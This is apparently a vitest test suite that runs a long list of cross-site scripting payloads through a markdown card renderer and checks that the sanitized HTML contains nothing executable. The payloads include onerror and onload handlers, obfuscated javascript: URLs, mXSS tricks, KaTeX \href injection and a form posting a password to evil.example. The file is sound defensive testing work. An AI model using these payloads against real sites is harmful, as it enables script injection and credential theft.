/**
 * Hostile markdown in, nothing executable out. Each case is rendered through
 * the real pipeline, the output is parsed again (parse5) and checked for
 * dangerous elements, event handlers, script-capable URLs and user CSS.
 */
import type { Element } from 'hast';
import { describe, expect, test } from 'vitest';
import { renderCardMarkdown } from '../../../src/ui/render/markdownToHtml.ts';
import { classesOf, elementsOf, parseHtml } from './htmlTree.ts';

const forbiddenTags = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'style', 'link',
  'meta', 'base', 'form', 'button', 'textarea', 'select', 'svg', 'foreignobject',
  'noscript', 'template', 'video', 'audio', 'source', 'picture', 'body', 'html', 'head',
  'marquee', 'isindex', 'keygen', 'xmp', 'title',
]);

// hast property names of attributes that hold a URL.
const urlProperties = new Set([
  'href', 'src', 'xLinkHref', 'action', 'formAction', 'srcSet', 'poster', 'data',
  'cite', 'longDesc', 'background', 'codeBase', 'manifest', 'ping', 'lowsrc', 'dynsrc',
]);

const safeUrl = /^(?:https?:|mailto:|#|\/|\.{0,2}\/|[^:]*$)/i;

function insideKatex(ancestors: Element[]): boolean {
  return ancestors.some((a) => classesOf(a).includes('katex'));
}

/** Every reason `html` is unsafe; empty when it is fine. */
async function problemsIn(html: string): Promise<string[]> {
  const problems: string[] = [];
  for (const { element, ancestors } of elementsOf(await parseHtml(html))) {
    const tag = element.tagName.toLowerCase();
    if (forbiddenTags.has(tag)) problems.push(`<${tag}>`);
    // KaTeX's MathML is trusted output; a <math> of the user's is not.
    if (tag === 'math' && !ancestors.some((a) => classesOf(a).includes('katex-mathml'))) {
      problems.push('<math> outside KaTeX');
    }
    if (tag === 'input' && (element.properties.type !== 'checkbox' || element.properties.disabled !== true)) {
      problems.push('<input> other than a disabled checkbox');
    }
    for (const [name, value] of Object.entries(element.properties)) {
      if (/^on/i.test(name)) problems.push(`event handler ${name}`);
      if (/["'<>=\s]/.test(name)) problems.push(`odd attribute name ${name}`);
      if (name === 'style') {
        if (!insideKatex([...ancestors, element])) problems.push(`user style on <${tag}>`);
        if (/url\(|expression|javascript|@import/i.test(String(value))) problems.push(`style ${String(value)}`);
      }
      if (name === 'srcDoc' || name === 'httpEquiv') problems.push(name);
      if (urlProperties.has(name)) {
        // Browsers ignore ASCII whitespace/control characters inside schemes.
        const url = String(value).replace(/[\u0000-\u0020]/g, '');
        if (!safeUrl.test(url)) problems.push(`${name}=${String(value)}`);
      }
      if (name === 'className' && classesOf(element).some((c) => /["'<>=]/.test(c))) {
        problems.push(`injected class ${String(value)}`);
      }
    }
  }
  // Belt and braces over the serialized HTML: attribute names in tags (quoted
  // values blanked, since `title="<img onerror=…>"` is inert text), and URLs.
  // Only real tags count: text may quote hostile HTML (escaped, so it shows and cannot run).
  const realTags = (html.match(/<[a-zA-Z][^>]*>/g) ?? []).join('\n');
  const tags = realTags.replace(/"[^"]*"/g, '""');
  if (/<[^>]+\son\w+\s*=/i.test(tags)) problems.push('on*= in serialized HTML');
  if (/\s(?:href|src|action|formaction|srcset|data)\s*=\s*["']?\s*(?:javascript|vbscript|data):/i.test(realTags)) {
    problems.push('script URL in serialized HTML');
  }
  return problems;
}

const hostile: Array<[name: string, markdown: string]> = [
  ['script element', '<script>alert(1)</script>'],
  ['script with src, upper case', 'hi <SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, no quotes and eval', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['unterminated img with onerror', 'text <img src="x" alt="a" onerror="alert(1)"'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['style element', '<style>body{display:none}</style>\n\nvisible'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/">'],
  ['markdown link javascript:', '[x](javascript:alert(1))'],
  ['markdown link mixed case', '[x](JaVaScRiPt:alert(1))'],
  ['reference link javascript:', '[x][1]\n\n[1]: javascript:alert(1)'],
  ['autolink javascript:', '<javascript:alert(1)>'],
  ['entity-encoded colon', '<a href="javascript&#58;alert(1)">x</a>'],
  ['entity-encoded letter', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['leading spaces', '<a href="  javascript:alert(1)">x</a>'],
  ['tab inside scheme', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['newline inside scheme', '<a href="java\nscript:alert(1)">x</a>'],
  ['vbscript', '<a href=vbscript:msgbox(1)>x</a>'],
  ['markdown link data:text/html', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['html link data:text/html', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data:image/svg+xml link', '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>'],
  ['form with action', '<form action="https://evil.example"><input type="password" name="p"><button>go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['input autofocus onfocus', '<input type="text" autofocus onfocus=alert(1)>'],
  ['math href', '<math href="javascript:alert(1)">x</math>'],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['img javascript: src', '<img src="javascript:alert(1)">'],
  ['markdown image javascript: src', '![x](javascript:alert(1))'],
  ['img srcset', '<img srcset="javascript:alert(1) 1x" src="a.png" alt="a">'],
  ['picture source srcset', '<picture><source srcset="javascript:alert(1)"><img src="a.png" alt="a"></picture>'],
  ['video/audio handlers', '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>x</details>'],
  ['anchor onclick', '<a href="https://ok.example" onclick="alert(1)">x</a>'],
  ['body onload', '<body onload=alert(1)>x</body>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['comment breakout', '<!--><img src=x onerror=alert(1)>-->'],
  ['style url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['style expression()', '<div style="width: expression(alert(1))">x</div>'],
  ['code fence language injection', '```js" onmouseover="alert(1)\ncode\n```'],
  ['code fence language with angle brackets', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['raw code class injection', '<pre><code class="language-js&quot; onmouseover=&quot;alert(1)">x</code></pre>'],
  ['katex \\href', '$\\href{javascript:alert(1)}{x}$'],
  ['katex \\url in display', '$$\n\\url{javascript:alert(1)}\n$$'],
  ['katex \\includegraphics', '$\\includegraphics{javascript:alert(1)}$'],
  ['katex \\htmlStyle and \\htmlData', '$\\htmlStyle{background:url(javascript:alert(1))}{x} \\htmlData{onload=alert(1)}{y}$'],
  ['katex math fence \\href', '```math\n\\href{javascript:alert(1)}{x}\n```'],
  ['html inside math', '$<img src=x onerror=alert(1)>$'],
];

describe('sanitizing hostile card markdown', () => {
  test.each(hostile)('%s', async (_name, markdown) => {
    const html = await renderCardMarkdown(markdown);
    expect(await problemsIn(html)).toEqual([]);
  });

  test('the list is long enough to mean something', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(25);
  });
});

describe('what survives sanitizing', () => {
  test('a javascript: link keeps its text but loses its href', async () => {
    const html = await renderCardMarkdown('[click me](javascript:alert(1))');
    expect(html).toBe('<p><a>click me</a></p>');
  });

  test('KaTeX with trust off renders \\href as text, never as a link', async () => {
    const tree = await parseHtml(await renderCardMarkdown('$\\href{javascript:alert(1)}{x}$'));
    expect(elementsOf(tree).filter(({ element }) => element.tagName === 'a')).toEqual([]);
  });

  test('user ids are prefixed against DOM clobbering', async () => {
    const html = await renderCardMarkdown('<a id="location" name="cookie">x</a>');
    expect(html).toContain('id="user-content-location"');
    expect(html).toContain('name="user-content-cookie"');
  });

  test('style and svg show as the text that was written, never as elements', async () => {
    const html = await renderCardMarkdown('<style>body{display:none}</style><svg><text>svg text</text></svg>\n\nvisible');
    const tags = elementsOf(await parseHtml(html)).map(({ element }) => element.tagName);
    expect(tags).not.toContain('style');
    expect(tags).not.toContain('svg');
    expect(html).toContain('&#x3C;style>body{display:none}&#x3C;/style>');
    expect(html).toContain('visible');
  });

  test('the checker itself flags unsafe HTML', async () => {
    expect(await problemsIn('<img src=x onerror=alert(1)>')).not.toEqual([]);
    expect(await problemsIn('<a href=" java\tscript:x">x</a>')).not.toEqual([]);
    expect(await problemsIn('<p style="color:red">x</p>')).not.toEqual([]);
    expect(await problemsIn('<math><mi>x</mi></math>')).not.toEqual([]);
  });
});
